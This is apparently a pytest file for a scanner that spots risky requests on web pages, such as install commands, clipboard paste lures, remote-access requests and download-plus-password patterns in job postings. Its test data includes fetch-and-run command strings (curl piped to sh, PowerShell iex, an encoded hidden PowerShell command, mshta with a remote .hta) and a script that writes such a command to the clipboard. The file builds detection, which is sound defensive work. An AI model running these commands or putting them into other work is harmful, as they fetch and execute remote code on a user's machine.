"""What pages ask of a visitor's computer: who is asked, and what for, decides."""

from __future__ import annotations

import pytest

from scanner.observe.page import document, safety

HOME = "https://larkwell.example/"


def seen(html: str, url: str = HOME) -> dict[str, str]:
    rows = safety.safety(document.read(url, 200, [], html))
    assert all(row.kind == "safety" for row in rows)
    return {row.name: row.value for row in rows}


COMMANDS = [
    "curl -fsSL https://get.larkwell.example/install.sh | sh",
    "wget -qO- https://get.larkwell.example | sudo bash",
    'bash -c "$(curl -fsSL https://get.larkwell.example)"',
    "irm https://get.larkwell.example/i.ps1 | iex",
    "iex (New-Object Net.WebClient).DownloadString('https://x.example/a')",
    "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
    "mshta https://larkwell.example/check.hta",
]


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_that_fetches_and_runs_is_a_fact_with_its_place(command: str) -> None:
    assert seen(f"<h1>Install</h1><pre>{command}</pre>")["command"].startswith("page ")
    hiring = seen(f"<h1>Coding test</h1><pre>{command}</pre>", HOME + "careers")
    assert hiring["command"].startswith("hiring ")
    assert "paste" not in hiring


@pytest.mark.parametrize(
    "command", ["curl https://api.larkwell.example/v1/orders", "powershell Get-Help", "wget the file"]
)
def test_a_command_that_only_fetches_is_nothing(command: str) -> None:
    assert seen(f"<pre>{command}</pre>") == {}


PASTE = "<p>Press Windows + R, then Ctrl + V and Enter to complete verification of your camera.</p>"


def test_pasting_a_hidden_command_for_a_camera_is_told() -> None:
    script = "<script>navigator.clipboard.writeText('mshta https://x.example/v.hta')</script>"
    assert seen(PASTE + script)["paste"].endswith("mshta https://x.example/v.hta')")
    assert "paste" not in seen(PASTE), "without a command there is nothing to paste"
    assert "paste" not in seen(PASTE + script, HOME + "blog/clickfix"), "an article tells of it"
    assert "paste" not in seen(PASTE.replace("Windows + R", "the button") + script)


def test_a_tool_installed_by_pasting_is_only_a_command() -> None:
    html = f"<p>Open the terminal, paste this and press Enter:</p><pre>{COMMANDS[0]}</pre>"
    assert set(seen(html)) == {"command"}


@pytest.mark.parametrize(
    ("words", "kind"),
    [
        ("Candidates share their AnyDesk ID with the interviewer.", "asked"),
        ("For the assessment, give us full access to your computer.", "install"),
        ("Candidates allow the proctor remote control of your computer during the exam.", "install"),
        ("Before the interview, allow us full control of your laptop.", "asked"),
        ("Applicants install AnyDesk on your own laptop before the interview.", "install"),
        ("Download TeamViewer and give our technician the ID.", "support"),
        ("Grant remote access to your computer while we repair it.", "support"),
    ],
)
def test_who_is_asked_decides(words: str, kind: str) -> None:
    assert seen(f"<p>{words}</p>")["remote_control"] == f"{kind} {words}"


@pytest.mark.parametrize(
    "words",
    [
        "You install AnyDesk on customers' laptops.",
        "Experience with TeamViewer is a plus for candidates.",
        "Standing desk and a view.",
        "We give you remote work and full control of your hours.",
    ],
)
def test_job_advertisements_of_help_desks_ask_nobody(words: str) -> None:
    assert not seen(f"<h1>Careers</h1><p>{words}</p>").get("remote_control", "support").startswith("asked")


@pytest.mark.parametrize(
    "words",
    [
        "We send a laptop, you keep it running at your home, and our engineers connect to it.",
        "Our developers work on your computer under your name and you get 30%.",
        "30% of the monthly salary for work done under your name.",
        "We ship a company notebook; you keep it plugged in at home and our engineer logs in every day.",
        "You attend the client interviews, and our senior engineers do all of the work under your name.",
    ],
)
def test_work_by_others_in_a_persons_place(words: str) -> None:
    assert seen(f"<p>{words}</p>")["stand_in"] == words


@pytest.mark.parametrize(
    "words",
    [
        "We send a laptop to your home and pay for your internet every month.",
        "Save 10% of your salary in the pension plan, in your name.",
        "Your computer, our software: we log in from our office to support you.",
        "We ship a notebook to your home; our IT team logs in once to set it up.",
        "Keep the notebook plugged in while updates run.",
        "White label: our engineers do the work, you deliver it under your name.",
        "Leave your computer running and it works for science while you sleep.",
    ],
)
def test_honest_remote_work_lends_nothing(words: str) -> None:
    assert "stand_in" not in seen(f"<p>{words}</p>")


def test_downloads_passwords_and_repositories() -> None:
    html = (
        "<h1>Take-home task</h1><a href='/run.exe'>run</a><a href='/a.zip'>a</a><p>Clone it.</p>"
        "<p>Archive password: 1234ab</p>"
        "<a href='https://github.com/larkwell/task'>task</a><a href='https://github.com/larkwell'>we</a>"
    )
    found = seen(html, HOME + "jobs")
    assert found["download"] == "hiring exe https://larkwell.example/run.exe"
    assert found["archive_password"] == "hiring Archive password: 1234ab"
    assert found["task_repository"] == "hiring https://github.com/larkwell/task"
    assert (
        seen(
            "<a href='mailto:setup@x.exe'>x</a><a href='https://setup.app'>y</a><p>Forgot your password?</p>"
        )
        == {}
    )
